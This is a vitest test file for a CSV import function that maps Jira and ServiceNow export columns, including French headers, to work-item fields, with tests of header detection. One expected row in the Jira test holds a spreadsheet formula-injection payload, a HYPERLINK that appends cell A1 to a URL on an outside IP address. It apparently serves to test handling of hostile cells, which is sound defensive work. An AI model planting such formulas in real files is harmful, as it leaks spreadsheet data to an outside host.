import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readCsv } from '../../src/document/readCsv';
import type { ReadTable } from '../../src/document/workItemTable';

function read(text: string): ReadTable {
  const reading = readCsv(text);
  if (reading.kind === 'refused') throw new Error(reading.reason);
  return reading;
}

function readFixture(name: string): ReadTable {
  return read(readFileSync(resolve(import.meta.dirname, 'fixtures', name), 'utf8'));
}

/** Which header was taken for each column that has one. */
function meanings({ headers, mapping }: ReadTable) {
  return Object.fromEntries(
    mapping.flatMap((column, position) => (column === null ? [] : [[column, headers[position]]])),
  );
}

describe('An export of a common tool', () => {
  it('of Jira maps by itself', () => {
    const table = readFixture('jira.csv');
    expect(meanings(table)).toEqual({
      name: 'Summary',
      description: 'Description',
      group: 'Components',
      doesTheWork: 'Assignee',
      note: 'Comment',
    });
    expect(table.problems).toEqual([]);
    expect(table.unknownColumns).toContain('Issue key');
    expect(table.unknownColumns).toContain('Comment');
    expect(
      table.rows.map(({ line, fields }) => [line, fields.name, fields.group, fields.doesTheWork]),
    ).toEqual([
      [2, 'Restore tests', 'Backups', 'Sam Tremblay'],
      [6, 'Joiners, movers and leavers', 'Accounts', undefined],
      [7, '=HYPERLINK("http://198.51.100.7/?"&A1,"Patch the shop floor")', undefined, 'Sam Tremblay'],
      [8, 'Vendor renewals', 'Contracts', 'Priya Nair'],
    ]);
  });

  it('of Jira in French maps by itself', () => {
    const table = readFixture('jira-fr.csv');
    expect(meanings(table)).toEqual({
      name: 'Résumé',
      description: 'Description',
      group: 'Composants',
      doesTheWork: 'Personne assignée',
      note: 'Commentaire',
    });
    expect(table.problems).toEqual([]);
    expect(table.rows.map(({ fields }) => [fields.name, fields.group])).toEqual([
      ['Tests de restauration', 'Sauvegardes'],
      ['Arrivées, départs', 'Comptes'],
      ['Renouvellements', 'Contrats'],
    ]);
  });

  it.each([
    ['servicenow.csv', 'short_description', 'category', 'owned_by', 'risk'],
    ['servicenow-fr.csv', 'Brève description', 'Catégorie', 'Propriétaire', 'Risque'],
  ])(
    'of ServiceNow (%s) maps by itself, and its risk in words is no flag',
    (name, title, group, owner, risk) => {
      const table = readFixture(name);
      expect(meanings(table)).toMatchObject({ name: title, group, accountable: owner });
      expect(table.unfitColumns).toEqual([risk]);
      expect(table.problems).toEqual([]);
      expect(table.rows).toHaveLength(3);
      expect(table.rows[0]?.fields).toMatchObject({ accountable: 'Dana Roy', doesTheWork: 'Sam Tremblay' });
      expect(table.rows[0]?.fields).not.toHaveProperty('risk');
    },
  );

  it('of this product maps by itself in French', () => {
    const table = read(
      'Tâche;Groupe;Nature;Fait par;Contexte;Continuité;Capacité;Inter-équipes;Heures par mois;Imputable;Réviseur\n' +
        'Sauvegardes;Serveurs;en continu;à l’interne;4;?;2,5;pas sûr;12,5;Dana;Kim',
    );
    expect(table.problems).toEqual([]);
    expect(table.rows[0]?.fields).toEqual({
      name: 'Sauvegardes',
      group: 'Serveurs',
      kind: 'ongoing',
      doneBy: 'inHouse',
      context: 4,
      continuity: 'notSure',
      capacity: 2.5,
      crossTeam: 'notSure',
      hoursPerMonth: 12.5,
      accountable: 'Dana',
      reviewer: 'Kim',
    });
  });
});

describe('The headers of a table', () => {
  it('mean one column each: a column goes to its own name before a synonym', () => {
    expect(read('Summary,Title\na,b').mapping).toEqual([null, 'name']);
    expect(read('Task,Name\na,b').mapping).toEqual([null, 'name']);
  });

  it('may stand below a title', () => {
    const table = read('Services of 2026,,\n"Printed for the board",,\nName,Owner,Hours\nBackups,Sam,4');
    expect(table).toMatchObject({ headers: ['Name', 'Owner', 'Hours'], rowsAbove: 2 });
    expect(table.rows).toMatchObject([{ line: 4, fields: { name: 'Backups', hoursPerMonth: 4 } }]);
  });

  it('are the first row where no row is clearly a row of headers', () => {
    expect(read('what,who\nname,b').headers).toEqual(['what', 'who']);
    expect(read('Name,x\nName,Owner').rows).toMatchObject([{ fields: { name: 'Name' } }]);
  });

  it('are believed as long as one of their cells can be what they say, and always when corrected', () => {
    const text = 'name,hours\na,lots\nb,some\nc,few';
    expect(read(text)).toMatchObject({ unfitColumns: ['hours'], problems: [] });
    expect(read(`${text}\nd,4`).problems).toHaveLength(3);
    expect(read('name,hours\na,lots\nb,some').problems).toHaveLength(2);
    expect(readCsv(text, ['name', 'hoursPerMonth'])).toMatchObject({ unfitColumns: [], rows: [] });
  });
});
